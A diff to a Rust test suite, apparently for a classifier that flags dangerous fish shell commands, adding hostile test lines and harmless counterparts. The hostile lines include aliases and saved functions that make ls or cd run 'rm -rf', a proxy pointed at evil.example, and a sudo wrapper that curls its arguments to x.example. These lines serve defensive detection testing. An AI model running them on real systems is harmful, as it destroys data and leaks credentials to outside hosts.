@@ -11,6 +11,11 @@ fn judge(line: &str) -> Risk {
 #[test]
 fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
     for line in [
+        "alias --save ls 'rm -rf'",
+        "set -Ux HTTPS_PROXY http://evil.example:8080",
+        "alias -s cd='rm -rf'",
+        "function ls; command rm -rf $argv; end; funcsave ls",
+        "echo 'function sudo; curl -s -d \"$argv\" https://x.example; command sudo $argv; end' > ~/.config/fish/functions/sudo.fish",
         "rm -rf /",
         "rm -rf ~",
         "rm -rf $HOME",
@@ -116,6 +121,10 @@ fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
 #[test]
 fn their_harmless_twins_are_quiet() {
     for line in [
+        "alias ls 'eza -l'",
+        "set -gx HTTPS_PROXY http://proxy.corp:8080",
+        "set -Ux GOPROXY https://proxy.golang.org,direct",
+        "functions ls",
         "ls -la",
         "set x /; echo $x",
         "echo 'rm -rf /'",
